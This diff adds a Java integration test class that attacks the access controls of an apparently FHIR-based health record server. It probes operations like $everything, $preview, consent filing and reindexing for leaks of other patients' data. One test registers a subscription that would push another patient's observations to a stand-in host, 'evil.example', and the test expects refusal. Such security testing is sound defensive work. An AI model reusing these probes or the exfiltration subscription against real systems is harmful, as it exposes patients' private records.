@@ -1,0 +1,412 @@
+package health.throughline.record.attack;
+
+import static health.throughline.record.attack.Ward.ACT_CODE;
+import static health.throughline.record.attack.Ward.ADMINISTRATOR;
+import static health.throughline.record.attack.Ward.ADMISSIONS;
+import static health.throughline.record.attack.Ward.ANN;
+import static health.throughline.record.attack.Ward.BOB;
+import static health.throughline.record.attack.Ward.HOSPITAL;
+import static health.throughline.record.attack.Ward.LEAD;
+import static health.throughline.record.attack.Ward.PEER;
+import static health.throughline.record.attack.Ward.RELATIVE;
+import static health.throughline.record.attack.Ward.THERAPIST;
+import static health.throughline.record.attack.Ward.WARD;
+import static health.throughline.record.attack.Ward.json;
+import static health.throughline.record.attack.Ward.observation;
+import static health.throughline.record.attack.Ward.resource;
+import static health.throughline.record.attack.Ward.scope;
+import static health.throughline.record.attack.Ward.scoped;
+import static health.throughline.record.attack.Ward.subject;
+import static org.assertj.core.api.Assertions.assertThat;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import health.throughline.record.Callers;
+import health.throughline.record.World;
+import health.throughline.record.World.Answer;
+import health.throughline.record.World.Ask;
+import health.throughline.record.access.Caller;
+import health.throughline.record.access.Permission.Level;
+import java.util.List;
+import java.util.Map;
+import java.util.Set;
+import java.util.TreeSet;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+/**
+ * Groups B7, B12, B13 and B18 of the catalogue: no operation opens more than reading does. Bulk export, subscriptions'
+ * delivery, tenants, $summary, $docref and $diff do not exist here; that they do not is what is tested of them.
+ */
+class OperationAttacksIT {
+
+    private static final String FORM = "https://throughline.example/fhir/Questionnaire/family-involvement-consent";
+
+    /** All of these are attacked below, or read nothing of any client. */
+    private static final Set<String> ATTACKED = Set.of(
+            "accesses", "assemble", "break-glass", "check", "closure", "disclosures", "everything", "expand", "explain",
+            "extract", "fileConsent", "find-matches", "graphql", "import-instrument", "lastn", "lookup", "meta",
+            "meta-add", "meta-delete", "next-question", "populate", "preview", "reindex", "reindex-progress",
+            "revokeConsent", "score", "stats", "subsumes", "translate", "validate", "validate-code");
+
+    @Test
+    void b07_no_operation_is_forgotten_here() {
+        JsonNode rest = Ward.tree(WARD.get(LEAD, "metadata")).path("rest").path(0);
+        Set<String> offered = new TreeSet<>();
+        rest.path("operation").forEach(one -> offered.add(one.path("name").asText()));
+        for (JsonNode type : rest.path("resource")) {
+            for (JsonNode operation : type.path("operation")) {
+                String name = operation.path("name").asText();
+                if (!namedQuery(type.path("type").asText(), name)) {
+                    offered.add(name);
+                }
+            }
+        }
+        assertThat(offered).isNotEmpty().isSubsetOf(ATTACKED);
+    }
+
+    /** Whether it is one, and then it tells nobody of other clients. */
+    private static boolean namedQuery(String type, String name) {
+        String url = type + "?_query=" + name;
+        if (WARD.status(LEAD, url) != 200) {
+            return false;
+        }
+        for (Caller caller : List.of(ANN, THERAPIST, RELATIVE, HOSPITAL)) {
+            String body = WARD.get(caller, url + "&_include=*&_revinclude=*").body();
+            assertThat(body).as(url).doesNotContain("\"reference\":\"Patient/b\"", "/Patient/b\"");
+        }
+        return true;
+    }
+
+    @Test
+    void b07_operations_on_what_is_hidden_answer_as_on_what_is_absent() {
+        String response = WARD.fresh("QuestionnaireResponse", "'status':'completed'," + subject("b"));
+        String consent = WARD.fresh("Consent", consent("b", "RelatedPerson/ra"));
+        String meta = json("{'resourceType':'Parameters','parameter':[{'name':'meta','valueMeta':{'tag':[{'code':"
+                + "'x'}]}}]}");
+        for (Caller caller : List.of(ANN, THERAPIST, RELATIVE, HOSPITAL, PEER)) {
+            for (String tail : List.of(
+                    "$everything",
+                    "$everything?_type=Observation",
+                    "$everything?_since=2020-01-01&_count=1",
+                    "$preview?as=RelatedPerson/ra",
+                    "$accesses",
+                    "$disclosures",
+                    "$meta",
+                    "$validate")) {
+                WARD.likeAbsent(caller, Ask.get("Patient/b/" + tail), "b");
+            }
+            WARD.likeAbsent(caller, Ask.get("Consent/$explain?patient=Patient/b"), "b");
+            WARD.likeAbsent(caller, Ask.get("Consent/$check?patient=Patient/b&actor=Patient/b&category=goals"), "b");
+            WARD.likeAbsent(
+                    caller,
+                    Ask.get("Consent/$check?patient=Patient/a&actor=Practitioner/tb&resource=Observation/ob"),
+                    "ob");
+            for (String operation : List.of("$meta-add", "$meta-delete")) {
+                WARD.likeAbsent(caller, Ask.post("Observation/ob/" + operation, meta), "ob");
+            }
+            WARD.likeAbsent(caller, Ask.get("Observation/ob/$validate?mode=delete"), "ob");
+            for (String operation : List.of("$extract", "$score")) {
+                WARD.likeAbsent(caller, Ask.get(response + "/" + operation), response.split("/")[1]);
+            }
+            WARD.likeAbsent(caller, Ask.post(consent + "/$revokeConsent", ""), consent.split("/")[1]);
+            WARD.likeAbsent(
+                    caller, Ask.get("Questionnaire/$populate?canonical=" + FORM + "&subject=Patient/b"), "b");
+        }
+        assertThat(WARD.world.stored(consent)).contains("\"active\"");
+    }
+
+    @Test
+    void b07_type_level_operations_see_what_a_search_sees() {
+        for (Caller caller : List.of(ANN, THERAPIST, HOSPITAL)) {
+            WARD.likeAbsent(caller, Ask.get("Observation/$lastn?patient=Patient/b&code=8867-4"), "b");
+            WARD.likeAbsent(
+                    caller,
+                    Ask.get("Observation/$stats?subject=Patient/b&code=8867-4&system=http://loinc.org&statistic=count"),
+                    "b");
+        }
+        assertThat(WARD.found(ANN, "Observation/$lastn?patient=Patient/a&code=8867-4&max=100"))
+                .isNotEmpty()
+                .doesNotContain("Observation/ob");
+        Caller goals = scoped(ANN, scope(Level.PATIENT, "Goal", "rs"));
+        assertThat(WARD.status(goals, "Observation/$lastn?patient=Patient/a&code=8867-4"))
+                .isEqualTo(403);
+        assertThat(WARD.status(goals, "Observation/$stats?subject=Patient/a&code=8867-4&system=http://loinc.org"
+                        + "&statistic=count"))
+                .isEqualTo(403);
+        assertThat(WARD.status(ANN, "Patient/$everything")).isEqualTo(404);
+    }
+
+    @Test
+    void b07_everything_is_what_scopes_leave_of_it() {
+        assertThat(WARD.found(ANN, "Patient/a/$everything?_count=500"))
+                .contains("Observation/oa", "Condition/ca")
+                .doesNotContain("Observation/ob", "Patient/b", "DocumentReference/note", "Group/g");
+        Caller app = scoped(ANN, scope(Level.PATIENT, "Patient", "r"), scope(Level.PATIENT, "Goal", "r"));
+        assertThat(WARD.found(app, "Patient/a/$everything"))
+                .contains("Patient/a", "Goal/ga")
+                .allMatch(key -> key.startsWith("Patient/") || key.startsWith("Goal/"));
+        assertThat(WARD.found(app, "Patient/a/$everything?_type=Observation")).isEmpty();
+    }
+
+    @Test
+    void b07_a_preview_shows_nobody_more_than_they_see_themselves() {
+        String staff = WARD.fresh(
+                "Communication",
+                "'meta':{'security':[{'system':'" + Ward.OWN + "privacy-label','code':'staff-only'}]},'status':"
+                        + "'completed'," + subject("a"));
+        assertThat(WARD.status(THERAPIST, staff)).isEqualTo(200);
+        assertThat(WARD.status(ANN, staff)).isEqualTo(404);
+        assertThat(WARD.found(ANN, "Patient/a/$preview?as=Practitioner/ta"))
+                .contains("Goal/ga")
+                .doesNotContain(staff);
+        assertThat(WARD.found(THERAPIST, "Patient/a/$preview?as=Practitioner/author"))
+                .contains("Goal/ga")
+                .doesNotContain("DocumentReference/note");
+        Caller app = scoped(ANN, scope(Level.PATIENT, "Patient", "rs"));
+        assertThat(WARD.found(app, "Patient/a/$preview?as=Practitioner/ta")).containsExactly("Patient/a");
+        assertThat(WARD.status(RELATIVE, "Patient/a/$preview?as=Practitioner/ta"))
+                .isEqualTo(403);
+    }
+
+    private static String consent(String patient, String actor) {
+        return "'status':'active','scope':{'coding':[{'code':'patient-privacy'}]},'category':[{'text':'x'}],'patient':{'reference':'Patient/"
+                + patient + "'},'dateTime':'2026-11-01','performer':[{'reference':'Patient/" + patient
+                + "'}],'organization':[{'reference':'Organization/programme'}],'policy':[{'uri':'urn:p'}],"
+                + "'verification':[{'verified':true}],'provision':{'type':'permit','period':{'end':'2099-01-01'},"
+                + "'actor':[{'role':{'text':'x'},'reference':{'reference':'" + actor
+                + "'}}],'purpose':[{'code':'TREAT'}],'code':[{'coding':[{'system':'" + Ward.OWN
+                + "consent-category','code':'milestones'}]}]}";
+    }
+
+    private static Answer file(Caller caller, String consent, String document) {
+        return WARD.as(
+                caller,
+                Ask.post(
+                        "Consent/$fileConsent",
+                        json("{'resourceType':'Parameters','parameter':[{'name':'consent','resource':"
+                                + resource("Consent", consent) + "}"
+                                + (document.isEmpty() ? "" : ",{'name':'document','resource':" + document + "}")
+                                + "]}")));
+    }
+
+    private static String letter(String patient) {
+        return resource(
+                "DocumentReference",
+                "'status':'current'," + subject(patient) + ",'content':[{'attachment':{'title':'signed'}}]");
+    }
+
+    @Test
+    void b07_a_consent_brings_no_document_into_another_record() {
+        assertThat(file(ANN, consent("a", "Organization/hospital"), letter("b")).status())
+                .isEqualTo(403);
+        assertThat(file(LEAD, consent("a", "Organization/hospital"), letter("b")).status())
+                .isEqualTo(403);
+        assertThat(file(ANN, consent("a", "Organization/hospital"), letter("a")).status())
+                .isEqualTo(201);
+        for (String source : List.of("DocumentReference/db", "DocumentReference/never")) {
+            String cited = consent("a", "Organization/hospital")
+                    .replace("'verification':", "'sourceReference':{'reference':'" + source + "'},'verification':");
+            assertThat(file(ANN, cited, "").status()).as(source).isEqualTo(201);
+        }
+    }
+
+    @Test
+    void b07_a_consent_is_filed_by_a_scope_that_reaches_its_patient() {
+        Caller mixed = new Caller(
+                "mixed",
+                LEAD.client(),
+                LEAD.user(),
+                LEAD.roles(),
+                ANN.patient(),
+                List.of(scope(Level.PATIENT, "Consent", "cu"), scope(Level.USER, "*", "rs")));
+        assertThat(file(mixed, consent("b", "Organization/hospital"), "").status())
+                .isEqualTo(403);
+        assertThat(file(mixed, consent("a", "Organization/hospital"), "").status())
+                .isEqualTo(201);
+        String key = WARD.fresh("Consent", consent("b", "Organization/hospital"));
+        assertThat(WARD.as(mixed, Ask.post(key + "/$revokeConsent", "")).status())
+                .isEqualTo(403);
+    }
+
+    @Test
+    void b07_who_receives_data_decides_about_no_consent() {
+        String patient = WARD.fresh("Patient", "'name':[{'family':'Shared'}]").substring(8);
+        String key = WARD.fresh(
+                "Consent",
+                consent(patient, "Organization/hospital")
+                        .replace(
+                                ",'code':[{'coding':[{'system':'" + Ward.OWN
+                                        + "consent-category','code':'milestones'}]}]",
+                                ""));
+        assertThat(WARD.status(HOSPITAL, "Patient/" + patient)).isEqualTo(200);
+        assertThat(file(HOSPITAL, consent(patient, "Organization/hospital"), "").status())
+                .isEqualTo(403);
+        assertThat(WARD.as(HOSPITAL, Ask.post(key + "/$revokeConsent", "")).status())
+                .isEqualTo(403);
+        for (String type : List.of("Consent", "CareTeam", "RelatedPerson", "EpisodeOfCare")) {
+            String content = type.equals("Consent")
+                    ? consent(patient, "Organization/hospital")
+                    : type.equals("CareTeam")
+                            ? "'status':'active'," + subject(patient)
+                            : "'status':'active','patient':{'reference':'Patient/" + patient + "'}";
+            assertThat(WARD.post(HOSPITAL, type, type.equals("RelatedPerson") ? content.substring(18) : content)
+                            .status())
+                    .as(type)
+                    .isEqualTo(403);
+        }
+        assertThat(WARD.put(HOSPITAL, key, consent(patient, "Organization/hospital"))
+                        .status())
+                .isEqualTo(403);
+        assertThat(WARD.post(HOSPITAL, "Observation", observation("8867-4") + subject(patient))
+                        .status())
+                .isEqualTo(201);
+    }
+
+    @Test
+    void b07_what_consents_give_to_others_is_not_told_to_everybody() {
+        String check = "Consent/$check?patient=Patient/a&category=goals&actor=";
+        assertThat(WARD.status(RELATIVE, check + "Practitioner/ta")).isEqualTo(403);
+        assertThat(WARD.status(HOSPITAL, check + "RelatedPerson/ra")).isEqualTo(403);
+        assertThat(WARD.status(PEER, check + "RelatedPerson/ra")).isEqualTo(403);
+        assertThat(WARD.status(RELATIVE, check + "RelatedPerson/ra"))
+                .as("about themselves, but not in sight of the client")
+                .isEqualTo(404);
+        Caller app = scoped(ANN, scope(Level.PATIENT, "Patient", "rs"));
+        assertThat(WARD.status(app, check + "RelatedPerson/ra")).isEqualTo(403);
+        assertThat(WARD.status(app, "Consent/$explain?patient=Patient/a")).isEqualTo(403);
+        assertThat(WARD.status(ANN, check + "RelatedPerson/ra")).isEqualTo(200);
+    }
+
+    @Test
+    void b07_a_relative_does_not_open_the_record_by_filling_in_a_form() {
+        String content = "'questionnaire':'" + FORM + "','status':'completed'," + subject("a")
+                + ",'authored':'2026-11-01T00:00:00Z','item':[{'linkId':'person','item':[{'linkId':'person-name',"
+                + "'answer':[{'valueString':'Rosa'}]}]},{'linkId':'agree','answer':[{'valueBoolean':true}]},{'linkId':"
+                + "'sharing','item':[{'linkId':'category','answer':[{'valueCoding':{'system':'" + Ward.OWN
+                + "consent-category','code':'goals'}}]},{'linkId':'end-date','answer':[{'valueDate':'2099-01-01'}]},"
+                + "{'linkId':'signed-date','answer':[{'valueDate':'2026-11-01'}]}]}]";
+        int before = WARD.found(LEAD, "Consent?patient=Patient/a&_count=400").size();
+        Answer refused = WARD.post(RELATIVE, "QuestionnaireResponse", content);
+        assertThat(refused.status()).as(refused.body()).isIn(403, 422);
+        assertThat(WARD.found(LEAD, "Consent?patient=Patient/a&_count=400")).hasSize(before);
+        assertThat(WARD.post(RELATIVE, "QuestionnaireResponse", "'status':'completed'," + subject("a"))
+                        .status())
+                .isEqualTo(201);
+    }
+
+    @Test
+    void b07_a_form_of_the_caller_s_own_reads_what_the_caller_reads() {
+        String form = "{'resourceType':'Questionnaire','status':'active','extension':[{'url':"
+                + "'http://hl7.org/fhir/StructureDefinition/variable','valueExpression':{'name':'o','language':"
+                + "'application/x-fhir-query','expression':'Observation?patient=Patient/b'}}],'item':[{'linkId':'1',"
+                + "'type':'integer','extension':[{'url':"
+                + "'http://hl7.org/fhir/uv/sdc/StructureDefinition/sdc-questionnaire-initialExpression',"
+                + "'valueExpression':{'language':'text/fhirpath','expression':'%o.entry.count()'}},{'url':"
+                + "'http://hl7.org/fhir/StructureDefinition/variable','valueExpression':{'name':'o','language':"
+                + "'application/x-fhir-query','expression':'Observation?patient=Patient/b'}}]}]}";
+        String asked = json("{'resourceType':'Parameters','parameter':[{'name':'subject','valueReference':{'reference':"
+                + "'Patient/a'}},{'name':'questionnaire','resource':" + form + "}]}");
+        Answer answer = WARD.as(ANN, Ask.post("Questionnaire/$populate", asked));
+        assertThat(answer.status()).as(answer.body()).isIn(200, 400);
+        Ward.silent(answer, "\"valueInteger\":1", "Observation/ob");
+        String context = asked.replace(
+                "{\"name\":\"subject\"",
+                json("{'name':'context','part':[{'name':'name','valueString':'patient'},{'name':'content',"
+                        + "'valueReference':{'reference':'Patient/b'}}]},{'name':'subject'"));
+        assertThat(WARD.as(ANN, Ask.post("Questionnaire/$populate", context)).status())
+                .isEqualTo(404);
+    }
+
+    @Test
+    void b07_operator_operations_are_for_administrators() {
+        for (Caller caller : List.of(ANN, THERAPIST, LEAD, ADMISSIONS, RELATIVE, HOSPITAL)) {
+            for (String url : List.of("$reindex?dryRun=true", "Observation/$reindex?dryRun=true")) {
+                assertThat(WARD.as(caller, Ask.post(url, "")).status()).isEqualTo(403);
+            }
+            assertThat(WARD.status(caller, "$reindex-progress")).isEqualTo(403);
+        }
+        assertThat(WARD.as(ADMINISTRATOR, Ask.post("Goal/$reindex?dryRun=true", "")).status())
+                .isEqualTo(200);
+        assertThat(WARD.as(ANN, Ask.post("Questionnaire/$import-instrument?instrument=isi&items=x&licence=1234567890",
+                                ""))
+                        .status())
+                .isIn(400, 403);
+    }
+
+    @Test
+    void b07_closure_tables_are_their_owners() {
+        String start = json("{'resourceType':'Parameters','parameter':[{'name':'name','valueString':'t'}]}");
+        String since = json("{'resourceType':'Parameters','parameter':[{'name':'name','valueString':'t'},{'name':"
+                + "'version','valueString':'0'}]}");
+        assertThat(WARD.as(ANN, Ask.post("$closure", start)).status()).isEqualTo(200);
+        assertThat(WARD.as(BOB, Ask.post("$closure", since)).status()).isEqualTo(404);
+        assertThat(WARD.as(ANN, Ask.post("$closure", since)).status()).isEqualTo(200);
+    }
+
+    @Test
+    void b07_the_audit_trail_is_kept_to_the_patient_in_context() {
+        Caller lead = new Caller(
+                "lead of a",
+                LEAD.client(),
+                LEAD.user(),
+                LEAD.roles(),
+                ANN.patient(),
+                List.of(Callers.all(Level.PATIENT, Callers.EVERYTHING)));
+        assertThat(WARD.status(lead, "AuditEvent")).isEqualTo(403);
+        assertThat(WARD.status(lead, "AuditEvent?patient=Patient/b")).isEqualTo(403);
+        assertThat(WARD.status(lead, "AuditEvent?patient=Patient/a")).isEqualTo(200);
+        assertThat(WARD.status(LEAD, "AuditEvent")).isEqualTo(200);
+        assertThat(WARD.status(ANN, "AuditEvent?patient=Patient/b")).isEqualTo(403);
+        assertThat(WARD.status(ANN, "AuditEvent?patient=Patient/a,Patient/b")).isEqualTo(403);
+        assertThat(WARD.status(ANN, "Patient/b/AuditEvent")).isEqualTo(403);
+        assertThat(WARD.status(THERAPIST, "AuditEvent?patient=Patient/a")).isEqualTo(403);
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "Patient/b/$summary",
+                "Patient/a/$summary",
+                "DocumentReference/$docref?patient=Patient/b",
+                "Observation/ob/$diff?from=1",
+                "Patient/$match",
+                "Patient/$everything",
+                "Composition/x/$document",
+                "$export",
+                "Patient/$export",
+                "Group/g/$export",
+                "$export?_typeFilter=Patient%3F_include%3D*",
+                "$export-poll-status?_jobId=1",
+                "bulk/1",
+                "bulk/1/Patient.ndjson",
+                "$events",
+                "Subscription/x/$status",
+                "Subscription/x/$events",
+                "Subscription/$get-ws-binding-token",
+                "tenant/Patient/b",
+                "other/fhir/Patient/b",
+                "DEFAULT/Patient/b",
+                "Binary/bb/signed?expires=1&signature=x"
+            })
+    void b12_b13_b18_surfaces_that_are_not_there_are_not_there(String url) {
+        for (Caller caller : List.of(ANN, THERAPIST, LEAD)) {
+            assertThat(WARD.status(caller, url)).as(url).isIn(400, 404, 405);
+            assertThat(WARD.as(caller, new Ask("POST", url, Map.of(), "")).status())
+                    .as(url)
+                    .isIn(400, 404, 405);
+            assertThat(WARD.delete(caller, url).status()).as(url).isIn(400, 404, 405);
+        }
+    }
+
+    @Test
+    void b13_nobody_who_is_restricted_registers_a_subscription() {
+        String content = "'status':'requested','reason':'x','criteria':'Observation?patient=Patient/b','channel':"
+                + "{'type':'rest-hook','endpoint':'http://evil.example','payload':'application/fhir+json'}";
+        for (Caller caller : List.of(ANN, THERAPIST, RELATIVE, HOSPITAL, PEER, ADMISSIONS)) {
+            assertThat(WARD.post(caller, "Subscription", content).status()).isEqualTo(403);
+        }
+        assertThat(World.keysIn(WARD.get(ANN, "Subscription").body())).isEmpty();
+        assertThat(ACT_CODE).isNotEmpty();
+    }
+}
